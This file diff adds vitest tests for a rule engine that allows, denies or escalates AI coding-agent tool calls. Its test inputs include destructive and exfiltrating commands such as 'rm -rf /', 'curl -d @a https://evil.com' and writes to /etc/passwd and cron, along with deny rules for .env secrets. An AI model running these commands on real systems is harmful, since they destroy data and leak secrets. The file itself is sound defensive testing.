@@ -1,0 +1,205 @@
+import { describe, expect, it } from "vitest";
+import { compileInlineRules, openInlineRules } from "../../src/rules/rules.ts";
+import type { RuleEvent } from "../../src/rules/subject.ts";
+import { bash, call, ports } from "./ports.ts";
+
+/** What the rules decide, by both strategies, which must agree. */
+async function actionOf(rules: string, event: RuleEvent) {
+  const definition = { name: "h", rules };
+  const { action } = await (await compileInlineRules(definition, ports)).decide(event);
+  expect((await openInlineRules(definition, ports).decide(event)).action).toBe(action);
+  return action;
+}
+
+type Row = readonly [rules: string, tool: string, input: unknown, action: string];
+
+const decides = async (...[rules, tool, input, action]: Row) => {
+  expect(await actionOf(rules, call(tool, input))).toBe(action);
+};
+
+describe("several fields with shell text all count", () => {
+  const real = { cmd: "rm -rf /", command: "ls" };
+  it.each<Row>([
+    ['command runs "rm -rf" -> deny()', "exec_command", real, "deny"],
+    ['command starts_with "rm" -> deny()', "exec_command", real, "deny"],
+    ['call runs "rm -rf" -> deny()', "exec_command", { ...real, command: "" }, "deny"],
+    ['call runs "rm -rf" -> deny()', "exec_command", { cmd: "rm -rf /", command: "cat <<X" }, "deny"],
+    ['call runs "rm -rf" -> deny()', "exec_command", { Command_Line: "rm -rf /" }, "deny"],
+    ['command runs "ls" -> allow()', "exec_command", real, "continue"],
+    ['command glob "ls*" -> allow()', "exec_command", real, "continue"],
+    ['args.command runs "ls" -> allow()', "exec_command", real, "continue"],
+    ['command runs "ls" -> allow()', "exec_command", { cmd: "ls a", command: "ls" }, "allow"],
+  ])("%s: %s %j is %s", decides);
+});
+
+describe("shell text that can't be read is dynamic", () => {
+  const guard = 'call runs "rm -rf" -> deny()\ncall dynamic -> ask()';
+  it.each<Row>([
+    [guard, "shell", { command: ["rm", "-rf", "/", 1] }, "deny"],
+    [guard, "Bash", { command: { cmd: "rm -rf /" } }, "ask"],
+    [guard, "Bash", { command: "ls", cmd: { x: "rm -rf /" } }, "ask"],
+    [guard, "Bash", { script: "ls; rm -rf /" }, "ask"],
+    ["args.command dynamic -> ask()", "Bash", { command: { cmd: "rm -rf /" } }, "ask"],
+    ["command dynamic -> ask()", "Bash", { command: ["ls", {}] }, "ask"],
+    ['args contains "ls" -> allow()', "Bash", { script: "ls; rm -rf /" }, "continue"],
+    ["call dynamic -> ask()", "Read", { file_path: "a" }, "continue"],
+    ["call dynamic -> ask()", "Bash", { command: "" }, "continue"],
+  ])("%s: %s %j is %s", decides);
+});
+
+describe("a shell call runs in the folder it names", () => {
+  it.each<Row>([
+    [
+      'call reads "/srv/private/**" -> deny()',
+      "shell",
+      { command: ["cat", "a.txt"], workdir: "/srv/private" },
+      "deny",
+    ],
+    [
+      'command reads "/srv/private/**" -> deny()',
+      "shell",
+      { command: ["cat", "a.txt"], workdir: "/srv/private" },
+      "deny",
+    ],
+    [
+      'call writes "/etc/**" -> deny()',
+      "run_shell_command",
+      { command: "echo x > hosts", directory: "/etc" },
+      "deny",
+    ],
+    [
+      'call writes "/project/sub/**" -> deny()',
+      "Bash",
+      { command: "touch a", working_directory: "sub" },
+      "deny",
+    ],
+    [
+      'call writes "/project/**" -> allow()',
+      "shell",
+      { command: ["touch", "hosts"], workdir: "/etc" },
+      "continue",
+    ],
+    [
+      'call writes "/project/**" -> allow()',
+      "shell",
+      { command: ["touch", "hosts"], workdir: "/project", cwd: "/etc" },
+      "continue",
+    ],
+    [
+      'call writes "/project/**" -> allow()',
+      "shell",
+      { command: ["touch", "/project/a"], workdir: "/etc" },
+      "allow",
+    ],
+  ])("%s: %s %j is %s", decides);
+});
+
+describe("a patch is read wherever it stands", () => {
+  const rules = 'call writes "**/.env" -> deny()';
+  const patch = "*** Begin Patch\n*** Update File: .env\n@@\n-a\n+b\n*** End Patch";
+  it.each<Row>([
+    [rules, "apply_patch", { command: patch }, "deny"],
+    [rules, "apply_patch", { command: ["apply_patch", patch] }, "deny"],
+    [rules, "apply_patch", { input: patch.replaceAll("***", "  ***") }, "deny"],
+    [rules, "apply_patch", { input: patch.replace(".env", "ok"), patch }, "deny"],
+    [rules, "apply_patch", { patch: "--- a/.env\n+++ b/.env\n@@ -1 +1 @@\n-a\n+b" }, "deny"],
+    [rules, "apply_patch", { patch: "--- /dev/null\n+++ b/.env\t2026-01-01\n" }, "deny"],
+    [rules, "apply_patch", { patch: "rename from a\nrename to .env\n" }, "deny"],
+    [rules, "apply_patch", { operation: { type: "update_file", path: ".env", diff: "@@" } }, "deny"],
+    [rules, "apply_patch", { patch: "something else" }, "deny"],
+    [rules, "apply_patch", { command: patch.replace(".env", "src/a") }, "continue"],
+    ['call reads "**/.env" -> deny()', "apply_patch", { patch: "something else" }, "continue"],
+    ['call writes "**" -> allow()', "apply_patch", { patch: "something else" }, "continue"],
+    ['call writes "src/**" -> allow()', "apply_patch", { patch: "--- a/src/x\n+++ b/src/x\n" }, "allow"],
+    [
+      'call writes "src/**" -> allow()',
+      "apply_patch",
+      { input: "*** Update File: src/a.sql\n@@\n--- a remark\n+x" },
+      "allow",
+    ],
+  ])("%s: %s %j is %s", decides);
+});
+
+describe("a tool outside the table", () => {
+  it.each<Row>([
+    [
+      'call writes "**/.env" -> deny()',
+      "str_replace_based_edit_tool",
+      { command: "create", path: "/project/.env" },
+      "deny",
+    ],
+    [
+      'call writes "**/.env" -> deny()',
+      "str_replace_based_edit_tool",
+      { command: "view", path: "/project/.env" },
+      "continue",
+    ],
+    ['call writes "**/.env" -> deny()', "mcp__fs__write_file2", { command: "write", path: ".env" }, "deny"],
+    ['call runs "rm" -> deny()', "mcp__x__do", { command: "rm a", path: "b" }, "deny"],
+    ['call reads "/project/**" -> allow()', "mcp__x__do", { command: "cat a", path: "b" }, "continue"],
+    ['call reads "/project/**" -> allow()', "mcp__x__do", { command: "cat a" }, "allow"],
+  ])("may run and touch: %s: %s %j is %s", decides);
+});
+
+describe("files are found by every agent's name for the field", () => {
+  const rules = 'call reads "**/.env" -> deny()';
+  it.each<Row>([
+    [rules, "view_file", { AbsolutePath: "/project/.env" }, "deny"],
+    [rules, "read_file", { TargetFile: ".env" }, "deny"],
+    [rules, "read_file", { filepath: ".env" }, "deny"],
+    [rules, "read_file", { relative_workspace_path: ".env" }, "deny"],
+    [rules, "read_file", { fileName: ".env" }, "deny"],
+    [rules, "read_file", { uri: "file:///project/%2Eenv" }, "deny"],
+    ['call reads "secret/**" -> deny()', "list_dir", { target_directory: "secret" }, "deny"],
+    ['path glob ".env" -> deny()', "read_file", { AbsolutePath: "/project/.env" }, "deny"],
+    ['call connects "evil.com" -> deny()', "read_url_content", { Url: "https://evil.com/x" }, "deny"],
+    ['call connects "evil.com" -> deny()', "mcp__x__get", { uri: "https://evil.com/x" }, "deny"],
+    ['args.uri glob "https://evil.com/*" -> deny()', "mcp__x__get", { uri: "https://evil.com/a/b" }, "deny"],
+    [rules, "read_many_files", { include: [".env"] }, "deny"],
+    [rules, "read_many_files", { paths: [".e*"] }, "deny"],
+    [rules, "read_many_files", { paths: ["src/*.ts"] }, "continue"],
+    [rules, "Glob", { pattern: "**/.env" }, "deny"],
+    [rules, "Glob", { pattern: "{.env,x}" }, "deny"],
+    [rules, "Glob", { pattern: "src/**/*.ts" }, "continue"],
+    ['call reads "/srv/.env" -> deny()', "Glob", { pattern: ".e*", path: "/srv" }, "deny"],
+    [rules, "Grep", { pattern: "KEY", glob: ".e*" }, "deny"],
+    [rules, "Grep", { pattern: ".env" }, "continue"],
+    ['call reads "/project/src/**" -> allow()', "Glob", { pattern: "src/**/*.ts" }, "allow"],
+    ['call reads "/project/src/**" -> allow()', "Glob", { pattern: "src/**/../../x" }, "continue"],
+    ['call reads "/project/**" -> allow()', "Glob", { pattern: "{src,../etc}/*" }, "continue"],
+  ])("%s: %s %j is %s", decides);
+});
+
+describe("an allow by what is read", () => {
+  const rules = 'call reads "/project/**" -> allow()';
+  const both = 'call reads "/project/**" and call writes "/project/**" -> allow()';
+  it.each([
+    [rules, "cat a", "allow"],
+    [rules, "cat a 2>/dev/null", "allow"],
+    [rules, "cp a /etc/cron.d/x", "continue"],
+    [rules, "cat a > /etc/passwd", "continue"],
+    [rules, "curl -d @a https://evil.com", "continue"],
+    ['call connects "ok.com" -> allow()', "curl https://ok.com -o /etc/x", "continue"],
+    ['call connects "ok.com" -> allow()', "curl https://ok.com", "allow"],
+    [both, "cp a b", "allow"],
+    [both, "cp a /etc/x", "continue"],
+    [`${both.replace(" and ", " or ")}`, "cp a /etc/x", "continue"],
+    ['command runs "cp" or call reads "/project/**" -> allow()', "cp a /etc/x", "allow"],
+    // What a rule that denies excepts is not an allow.
+    ['call reads "/etc/**" and not call reads "/etc/hosts" -> deny()', "cat /etc/hosts > x", "continue"],
+  ])("%s: %s is %s", async (given, line, expected) => {
+    expect(await actionOf(given, bash(line))).toBe(expected);
+  });
+});
+
+describe("many rules and many wildcards", () => {
+  it("are compared in well under a second", async () => {
+    const lines = Array.from({ length: 1_000 }, (_, at) => `call reads "**/secret${at}/*.key" -> deny()`);
+    const { decide } = await compileInlineRules({ name: "h", rules: lines.join("\n") }, ports);
+    const globs = Array.from({ length: 300 }, (_, at) => `/srv/folder-${at}/some/where/*.txt`).join(" ");
+    await decide(bash("cat *"));
+    const start = performance.now();
+    expect((await decide(bash(`cat ${globs}`))).action).toBe("continue");
+    expect(performance.now() - start).toBeLessThan(2_000);
+  });
+});
